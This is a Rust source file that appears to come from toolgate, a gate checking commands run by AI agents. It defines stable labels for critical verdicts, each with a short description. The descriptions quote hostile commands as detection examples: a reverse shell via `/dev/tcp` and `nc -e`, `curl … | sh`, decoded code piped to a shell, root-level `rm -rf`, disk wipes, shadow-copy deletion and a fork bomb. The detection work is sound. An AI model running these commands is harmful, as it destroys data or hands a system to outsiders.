//! Every critical label toolgate answers with (a verdict's `critical`), one line of doc each.
//! The TypeScript union `CriticalLabel` is generated from this table, and tests check that
//! every label a detector, a place ([`crate::exec_places`]) or Windows gives is listed.

/// (label, what it means). Stable: hosts match on them.
#[rustfmt::skip]
pub const LABELS: &[(&str, &str)] = &[
    // deletes and moves (see `delete`)
    ("recursive-delete-root", "`rm -r`, `find -delete`, `find -exec rm`, `xargs rm` or `rsync --delete` reaching `/`, a top-level directory, a home or a drive root."),
    ("workspace-delete", "The same deleting a workspace root itself or every entry in it (`rm -rf .` or `rm -rf *` at the root): nothing in the workspace survives, `.git` included."),
    ("recursive-delete-unknown", "A recursive delete whose target toolgate cannot know (`rm -rf \"$X\"/*`, `xargs rm -rf < list`)."),
    ("sudo-rm", "Any `rm` under a privileged launcher (`sudo`, `doas`, `su -c`, `pkexec`, …)."),
    ("move-root", "`mv` (or `rsync --remove-source-files`) of a root-like directory (`mv ~ /dev/null`)."),
    ("recursive-chmod-root", "`chmod -R` of a root-like directory."),
    ("recursive-chown-root", "`chown -R` or `chgrp -R` of a root-like directory."),
    ("extract-root", "An archive or patch unpacked into `/`, a top-level directory or a home, or keeping absolute names (`tar -P`, `cpio -i`)."),
    // disks (see `disk`)
    ("disk-write", "A write to a disk device (`> /dev/sda`, `dd of=`), `wipefs`, `blkdiscard`, a partition-table edit, `diskpart`, `cipher /w`."),
    ("mkfs", "`mkfs`, `mkfs.*`, `mke2fs`, `mkswap` (and `format D:` through its POSIX reading)."),
    // code from elsewhere (see `remote`, `remote_shell`)
    ("remote-code-exec", "Downloaded code run by a shell or interpreter: piped, substituted, or saved and run later in the same line (`curl … | sh`)."),
    ("opaque-code-exec", "A shell or interpreter whose program comes through a pipe or is computed at run time (`… | base64 -d | sh`, `eval \"$(…)\"`)."),
    ("remote-shell", "A shell handed to the network (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`)."),
    ("encoded-command", "`powershell -EncodedCommand`: what runs is not what the user reads."),
    // the system (see `system`, `host_kill`)
    ("fork-bomb", "A function that calls itself twice, in the background or a pipeline."),
    ("crontab-write", "`crontab` installing or removing jobs, writes to `/etc/crontab`, `/etc/cron.*/…`, `schtasks /create`."),
    ("kill-init", "`kill -9 1`, `kill … -1`, `killall5`, `pkill`/`killall` of every process."),
    ("kill-host", "A command that may kill the agent's own host or editor (`pkill node`, `kill $PPID`)."),
    ("host-mount", "A container or sandbox given the host's `/`, a home or a top-level directory, writable (`docker run -v /:/host`, `bwrap --bind / /`)."),
    ("shutdown", "`shutdown`, `reboot`, `halt`, `poweroff`, `init 0|6`, `systemctl poweroff`."),
    ("shadow-copy-delete", "Windows' shadow copies deleted (`vssadmin delete shadows`, `wmic shadowcopy delete`)."),
    ("boot-config-write", "`bcdedit` changing the boot configuration."),
    // git (see `git`)
    ("force-push", "`git push` with `-f`, `--force`, `--force-with-lease`, `--mirror` or a `+refspec` (or an abbreviation git accepts)."),
    ("remote-branch-delete", "`git push` with `-d`, `--delete`, `--prune` or a `:branch` refspec."),
    // writes to places that grant execution (see `crate::exec_places`)
    ("git-hook-write", "A write to `.git/hooks/…`: git runs it."),
    ("git-config-write", "A write to a git configuration (`.git/config`, `~/.gitconfig`, `git config core.hooksPath …`)."),
    ("editor-config-write", "A write to an editor's settings, tasks or launch configuration."),
    ("agent-config-write", "A write to an agent's settings, hooks, rules or MCP servers."),
    ("startup-file-write", "A write to a shell or login start-up file (`~/.bashrc`, `/etc/profile.d/…`, a registry Run key)."),
    ("auth-file-write", "A write to `/etc/passwd`, `shadow`, `group`, `sudoers`, or a home's `.ssh/authorized_keys`."),
    ("autostart-write", "A write to what a session, the system or an interpreter starts (`~/.config/autostart`, LaunchAgents, user systemd units, a `.pth` or `sitecustomize.py`)."),
    ("user-config-write", "A write to a user configuration that can run commands or redirect credentials (`~/.ssh/config`, `~/.aws/config`, `~/.kube/config`, `~/.npmrc`)."),
    ("service-write", "A write to a system service definition (`/lib/systemd/…`, `/usr/lib/systemd/…`)."),
    ("system-file-write", "A write to another system file (`/etc/…`, `/proc/sys/…`, `/sys/…`)."),
    ("device-write", "A write to a device that is neither a disk (`disk-write`) nor a harmless one (`/dev/null`)."),
    ("sysrq-trigger", "A write to `/proc/sysrq-trigger` or `/proc/sys/kernel/sysrq`."),
    ("ignore-file-write", "A write to toolgate's own ignore file or a file it includes."),
];

/// Whether `label` is in [`LABELS`]; for `debug_assert!` where labels are given.
pub fn listed(label: &str) -> bool {
    LABELS.iter().any(|(l, _)| *l == label)
}
